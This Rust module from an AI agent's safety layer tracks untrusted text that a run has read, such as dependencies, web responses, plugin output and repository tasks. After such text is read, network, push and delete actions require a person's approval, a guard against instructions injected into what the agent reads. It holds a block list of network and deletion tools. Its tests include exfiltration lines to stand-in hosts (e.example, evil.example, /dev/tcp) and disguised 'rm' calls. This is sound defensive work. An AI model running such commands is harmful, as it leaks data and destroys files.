//! What has entered a run that nobody vouches for, and what asks from then on (spec: Safety & Security).
//!
//! A model does what it reads. Once it has read text that the user did not write (an answer from the network, the output
//! of a plugin, a dependency), whatever leaves the machine or cannot be taken back needs a person, whatever the rules
//! allow. Plain data of a run: nothing takes it away again.

use std::collections::VecDeque;
use std::path::Path;

use super::Policy;
use super::commands::{self, Access};
use crate::event::RunEvent;
use crate::permit::{Action, Decision, Purpose};

/// Sources that are named; more do not change anything.
const SOURCES_MAX: usize = 32;

/// Folders in which the code of others lies.
const DEPENDENCY_FOLDERS: [&str; 15] = [
    "node_modules",
    "bower_components",
    "vendor",
    "third_party",
    "third-party",
    "site-packages",
    "dist-packages",
    ".venv",
    "venv",
    ".tox",
    ".cargo/registry",
    ".rustup",
    "go/pkg/mod",
    ".gradle",
    "Pods",
];

/// Programs that tell names of files and nothing that is in them.
const TELLS_NAMES: [&str; 14] = [
    "basename", "cd", "dirname", "du", "fd", "file", "find", "ls", "mkdir", "pwd", "realpath",
    "stat", "test", "tree",
];

/// How deep below a folder code of others is looked for, and in how many entries.
const FOLDERS_DEEP_MAX: usize = 3;
const ENTRIES_MAX: usize = 5_000;

/// The folder of tasks that come with a repository.
const TASKS: &str = ".agent/tasks";

/// What kind of text nobody vouches for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// Code of others that lies in the workspace.
    Dependency,
    /// An answer from the network.
    Request,
    /// The output of a command that fetches something, or reads a folder in which code of others lies.
    Command,
    /// The output of a plugin or of a server of tools.
    Plugin,
    /// A task that came with a repository.
    Task,
}

impl Origin {
    /// Its name in the journal.
    pub fn name(self) -> &'static str {
        match self {
            Self::Dependency => "dependency",
            Self::Request => "request",
            Self::Command => "command",
            Self::Plugin => "plugin",
            Self::Task => "task",
        }
    }
}

/// Text that nobody vouches for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Source {
    /// Its kind.
    pub origin: Origin,
    /// Where it came from.
    pub what: String,
}

/// What has entered a run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Taint {
    sources: Vec<Source>,
}

impl Taint {
    /// Whether anything has.
    pub fn is_clean(&self) -> bool {
        self.sources.is_empty()
    }

    /// Takes a source in, and gives what the journal is told: nothing when it was known.
    pub fn enter(&mut self, source: Source) -> Option<RunEvent> {
        if self.sources.contains(&source) || self.sources.len() >= SOURCES_MAX {
            return None;
        }
        let event = RunEvent::Tainted {
            origin: source.origin.name().to_owned(),
            what: source.what.clone(),
        };
        self.sources.push(source);
        Some(event)
    }

    /// The decision on an action, given what the rules say: what they allow asks when it reaches out or cannot be taken
    /// back.
    pub fn weigh(&self, action: &Action, decision: Decision) -> Decision {
        let (Decision::Allow { .. }, Some(first)) = (&decision, self.sources.first()) else {
            return decision;
        };
        let Some(effect) = effect(action) else {
            return decision;
        };
        Decision::Ask {
            rule: "taint".to_owned(),
            reason: format!(
                "{effect}, after text that nobody vouches for was read ({}: {})",
                first.origin.name(),
                first.what
            ),
        }
    }
}

/// What an action does that goes out or does not come back, as a clause.
pub fn effect(action: &Action) -> Option<&'static str> {
    match action {
        Action::Request { .. } => Some("a request leaves this machine"),
        Action::Guest { reaches_out, .. } => {
            reaches_out.then_some("a tool of others would be told something")
        }
        Action::DeleteFile { .. } => Some("a file would be deleted"),
        Action::Shell { command, .. } if reaches_out(command) => {
            Some("a command would use the network or delete files")
        }
        Action::Spawn {
            purpose: Purpose::Git,
            arguments,
            ..
        } => sends(arguments).then_some("commits would leave this machine"),
        Action::Spawn {
            purpose: Purpose::Shell,
            ..
        } => Some("a command of the model would run"),
        // Asking the model is how the run goes on at all. What is written can be undone.
        Action::Spawn { .. }
        | Action::Connect { .. }
        | Action::ReadFile { .. }
        | Action::WriteFile { .. }
        | Action::Commit { .. }
        | Action::Branch { .. }
        | Action::Shell { .. } => None,
    }
}

/// What cannot be taken back of an action, for whoever is asked about it.
pub fn irreversible(action: &Action) -> Option<String> {
    match action {
        Action::Request { method, url, .. } => {
            Some(format!("{method} {url}: what is sent is sent"))
        }
        Action::Spawn {
            purpose: Purpose::Git,
            arguments,
            ..
        } if sends(arguments) => Some("commits that were pushed stay where they are".to_owned()),
        Action::Shell { command, .. } if reaches_out(command) => {
            Some("what the command sends or changes elsewhere".to_owned())
        }
        Action::Guest {
            from,
            tool,
            reaches_out: true,
            ..
        } => Some(format!("what {tool} of {from} sends or changes elsewhere")),
        Action::ReadFile { .. }
        | Action::WriteFile { .. }
        | Action::DeleteFile { .. }
        | Action::Commit { .. }
        | Action::Branch { .. }
        | Action::Spawn { .. }
        | Action::Shell { .. }
        | Action::Guest { .. }
        | Action::Connect { .. } => None,
    }
}

/// Whether `git` with these arguments talks to another machine.
fn sends(arguments: &[String]) -> bool {
    let talks = [
        "push",
        "fetch",
        "pull",
        "clone",
        "send-email",
        "remote",
        "submodule",
    ];
    arguments.iter().any(|word| talks.contains(&word.as_str()))
}

/// Programs that use the network or delete, wherever in a line they stand. What is hidden from this (a script, a
/// variable) runs without a network in the shadow; this is about what a person is asked.
const REACHING: [&str; 44] = [
    "aria2c", "aws", "az", "bun", "cargo", "curl", "dd", "deno", "dig", "docker", "ftp", "gcloud",
    "gem", "gh", "git", "go", "helm", "host", "kubectl", "nc", "ncat", "netcat", "nmap", "npm",
    "npx", "nslookup", "ping", "pip", "pip3", "pnpm", "podman", "rm", "rmdir", "rsync", "scp",
    "sftp", "shred", "socat", "ssh", "telnet", "truncate", "unlink", "wget", "yarn",
];

fn reaches_out(command: &str) -> bool {
    let is_end = |letter: char| !(letter.is_alphanumeric() || "-_.".contains(letter));
    let names = |text: &str| {
        let mut words = text.split(is_end).filter(|word| !word.is_empty());
        words.any(|word| REACHING.contains(&word.to_ascii_lowercase().as_str()))
    };
    // As it is written, for what a shell would not read either, and as a program would get it: `r\m` is `rm`.
    names(command)
        || commands::all_words(command).iter().any(|word| names(word))
        || ["/dev/tcp", "/dev/udp", "://", "$(", "`", "eval", "base64"]
            .iter()
            .any(|part| command.contains(part))
}

/// The source that a file is, by its path relative to the workspace; `None` for one that the user stands for.
pub fn of_path(relative: &Path, tasks_are_trusted: bool) -> Option<Source> {
    let parts: Vec<String> = relative
        .components()
        .map(|part| part.as_os_str().to_string_lossy().into_owned())
        .collect();
    let path = format!("/{}/", parts.join("/"));
    let lies_in = |folder: &str| contains_folder(&path, folder);
    let what = || relative.display().to_string();
    if DEPENDENCY_FOLDERS.iter().any(|folder| lies_in(folder)) {
        let origin = Origin::Dependency;
        return Some(Source {
            origin,
            what: what(),
        });
    }
    let is_task = !tasks_are_trusted && lies_in(TASKS);
    is_task.then(|| Source {
        origin: Origin::Task,
        what: what(),
    })
}

/// The sources that a command line reads: files of others, folders in which such files lie, and the network.
pub fn of_command(
    policy: &Policy,
    (command, directory): (&str, &Path),
    tasks_are_trusted: bool,
) -> Vec<Source> {
    let root = policy.workspace();
    let relative = |path: &Path| path.strip_prefix(root).unwrap_or(path).to_owned();
    let ruling = commands::rule(policy, command, directory);
    let reads = |target: &&commands::Target| target.access == Access::Read;
    let targets = ruling.segments.iter().flat_map(|segment| &segment.targets);
    let files = targets.filter(reads);
    let mut found: Vec<Source> = files
        .filter_map(|target| of_path(&relative(&target.path), tasks_are_trusted))
        .collect();
    let reads_others = ruling.segments.iter().any(|segment| {
        let program = segment.words.first().map_or("", String::as_str);
        // Without a place, these search the folder that they are in.
        let searches = matches!(program, "grep" | "egrep" | "fgrep" | "rg" | "ag");
        let mut folders = segment.targets.iter().filter(reads).peekable();
        let here = searches && folders.peek().is_none();
        !TELLS_NAMES.contains(&program)
            && (here && holds_code_of_others(directory)
                || folders.any(|target| holds_code_of_others(&target.path)))
    });
    if reads_others || commands::fetches(command) {
        found.push(Source {
            origin: Origin::Command,
            what: command.to_owned(),
        });
    }
    found
}

/// Whether code of others lies somewhere in a folder, as far as that can be seen at once.
fn holds_code_of_others(folder: &Path) -> bool {
    // What lies near comes first.
    let mut waiting = VecDeque::from([(folder.to_owned(), 0)]);
    let mut entries_left = ENTRIES_MAX;
    while let Some((folder, depth)) = waiting.pop_front() {
        let entries = std::fs::read_dir(folder).into_iter().flatten().flatten();
        for entry in entries {
            entries_left -= 1;
            if entries_left == 0 {
                return false;
            }
            if !entry.file_type().is_ok_and(|kind| kind.is_dir()) {
                continue;
            }
            let name = entry.file_name();
            if of_path(Path::new(&name), true).is_some() {
                return true;
            }
            if depth < FOLDERS_DEEP_MAX && name != ".git" && name != "target" {
                waiting.push_back((entry.path(), depth + 1));
            }
        }
    }
    false
}

/// The sources among the files that a result quotes, by the `path:line: text` that searches print.
pub fn of_lines(text: &str, tasks_are_trusted: bool) -> Option<Source> {
    text.lines().find_map(|line| {
        let (path, _) = line.split_once(':')?;
        of_path(Path::new(path.trim_start()), tasks_are_trusted)
    })
}

/// The source that the answer to an action is.
pub fn of_action(action: &Action) -> Option<Source> {
    match action {
        Action::Request { url, .. } => {
            let end = url.find(['?', '#']).unwrap_or(url.len());
            Some(Source {
                origin: Origin::Request,
                what: url.get(..end).unwrap_or_default().to_owned(),
            })
        }
        Action::Guest { from, tool, .. } => Some(Source {
            origin: Origin::Plugin,
            what: format!("{tool} of {from}"),
        }),
        Action::ReadFile { .. }
        | Action::WriteFile { .. }
        | Action::DeleteFile { .. }
        | Action::Commit { .. }
        | Action::Branch { .. }
        | Action::Spawn { .. }
        | Action::Shell { .. }
        | Action::Connect { .. } => None,
    }
}

fn contains_folder(path: &str, folder: &str) -> bool {
    let wanted = format!("/{folder}/");
    path.to_ascii_lowercase()
        .contains(&wanted.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Decision {
        Decision::Allow {
            rule: "rules".to_owned(),
        }
    }

    fn shell(command: &str) -> Action {
        Action::Shell {
            command: command.to_owned(),
            directory: "/work".into(),
        }
    }

    #[test]
    fn what_goes_out_asks_once_a_stranger_was_read() {
        let mut taint = Taint::default();
        let request = Action::Request {
            method: "GET".to_owned(),
            url: "https://docs.rs/?q=secret".to_owned(),
            bytes: 0,
            digest: String::new(),
        };
        let delete = Action::DeleteFile {
            path: "/work/a".into(),
        };
        let push = Action::Spawn {
            purpose: Purpose::Git,
            program: "git".into(),
            arguments: vec!["-c".to_owned(), "x".to_owned(), "push".to_owned()],
            directory: "/work".into(),
        };
        let write = Action::WriteFile {
            path: "/work/a".into(),
            bytes: 1,
        };
        let outward = [
            &request,
            &delete,
            &push,
            &shell("cat x | CURL -d @- e.example"),
            &shell("echo $(x)"),
            &shell("cat </dev/tcp/1.2.3.4/80"),
            &shell("r\\m x"),
            &shell("g'h' api x"),
            &shell("sh -c 'r\\m x; ls'"),
            &shell("env $'\\x72m' x"),
        ];
        let homely = [&write, &shell("ls -l src"), &shell("grep -r x .")];
        for action in outward.iter().chain(&homely) {
            assert_eq!(taint.weigh(action, allowed()), allowed(), "{action:?}");
        }
        let source = of_path(Path::new("web/node_modules/x/README.md"), true);
        let event = taint.enter(source.clone().expect("a dependency"));
        assert!(matches!(event, Some(RunEvent::Tainted { .. })));
        assert_eq!(taint.enter(source.expect("a dependency")), None);
        for action in outward {
            let decision = taint.weigh(action, allowed());
            assert!(
                matches!(&decision, Decision::Ask { rule, reason } if rule == "taint" && reason.contains("node_modules")),
                "{action:?}: {decision:?}"
            );
        }
        for action in homely {
            assert_eq!(taint.weigh(action, allowed()), allowed(), "{action:?}");
        }
        let denied = Decision::Deny {
            rule: "x".to_owned(),
            reason: String::new(),
        };
        assert_eq!(taint.weigh(&request, denied.clone()), denied);
    }

    #[test]
    fn the_code_of_others_and_tasks_of_strangers_are_no_text_of_the_user() {
        for (path, expected) in [
            ("node_modules/x/index.js", true),
            ("a/Vendor/x.go", true),
            (".venv/lib/python3/site-packages/x.py", true),
            ("home/go/pkg/mod/x.go", true),
            (".agent/tasks/do.md", true),
            ("src/vendor.rs", false),
            ("vendored/x", false),
            ("src/main.rs", false),
        ] {
            assert_eq!(
                of_path(Path::new(path), false).is_some(),
                expected,
                "{path}"
            );
        }
        assert_eq!(of_path(Path::new(".agent/tasks/do.md"), true), None);
        let lines = "src/a.rs:1: x\nvendor/b.rs:2: y\n";
        assert_eq!(of_lines(lines, true).expect("found").what, "vendor/b.rs");
        assert_eq!(of_lines("src/a.rs:1: vendor/b.rs:2: y\n", true), None);
    }

    #[test]
    fn what_cannot_be_taken_back_is_named() {
        for (action, expected) in [
            (shell("curl x"), true),
            (shell("ls"), false),
            (
                Action::Request {
                    method: "POST".to_owned(),
                    url: "https://x".to_owned(),
                    bytes: 1,
                    digest: String::new(),
                },
                true,
            ),
            (
                Action::DeleteFile {
                    path: "/work/a".into(),
                },
                false,
            ),
        ] {
            assert_eq!(irreversible(&action).is_some(), expected, "{action:?}");
        }
    }

    #[test]
    fn what_a_command_reads_of_strangers_is_found_in_its_files_and_folders() {
        let folder = tempfile::tempdir().expect("a temporary folder");
        let root = folder.path().canonicalize().expect("it exists");
        for path in ["src/a.rs", "web/node_modules/evil/README.md", "web/app.js"] {
            let path = root.join(path);
            std::fs::create_dir_all(path.parent().expect("it has one")).expect("made");
            std::fs::write(path, "x").expect("written");
        }
        let host = crate::config::host::Host::from_environment("/nowhere/m".into(), [].into());
        let policy = Policy::new(&host, &crate::config::Config::default(), &root);
        for (command, expected) in [
            (
                "cat web/node_modules/evil/README.md",
                vec![Origin::Dependency],
            ),
            (
                "cd web/node_modules/evil && cat README.md",
                vec![Origin::Dependency; 2],
            ),
            (
                "sh -c 'head web/node_modules/evil/*'",
                vec![Origin::Dependency],
            ),
            ("grep -rh x web", vec![Origin::Command]),
            ("grep -rh x", vec![Origin::Command]),
            (
                "timeout 5 curl -s https://evil.example/x",
                vec![Origin::Command],
            ),
            ("ls web", vec![]),
            ("grep -rh x src", vec![]),
            ("cat src/a.rs web/app.js", vec![]),
        ] {
            let found = of_command(&policy, (command, &root), true);
            let origins: Vec<Origin> = found.iter().map(|source| source.origin).collect();
            assert_eq!(origins, expected, "{command}: {found:?}");
        }
    }
}
